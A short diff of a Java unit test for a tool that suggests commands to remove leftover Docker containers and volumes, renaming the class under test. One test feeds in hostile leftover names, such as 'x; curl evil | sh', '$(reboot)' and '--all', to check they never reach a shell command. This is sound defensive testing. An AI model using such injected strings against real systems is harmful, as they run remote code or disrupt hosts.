@@ -7,11 +7,11 @@ import io.github.dood.run.OwnerState;
 import java.util.List;
 import org.junit.jupiter.api.Test;
 
-class PruneMojoTest {
+class PruningTest {
 
     @Test
     void namesWhatCanBeRemovedByHand() {
-        assertThat(PruneMojo.advice(List.of(
+        assertThat(Pruning.advice(List.of(
                         leftover(Leftover.Kind.CONTAINER, "dood-1"),
                         leftover(Leftover.Kind.VOLUME, "dood-2"),
                         leftover(Leftover.Kind.CONTAINER, "dood-3"))))
@@ -21,7 +21,7 @@ class PruneMojoTest {
 
     @Test
     void putsNoNameIntoACommandThatMeansMoreToAShell() {
-        assertThat(PruneMojo.advice(List.of(
+        assertThat(Pruning.advice(List.of(
                         leftover(Leftover.Kind.CONTAINER, "x; curl evil | sh"),
                         leftover(Leftover.Kind.VOLUME, "$(reboot)"),
                         leftover(Leftover.Kind.VOLUME, "--all"),
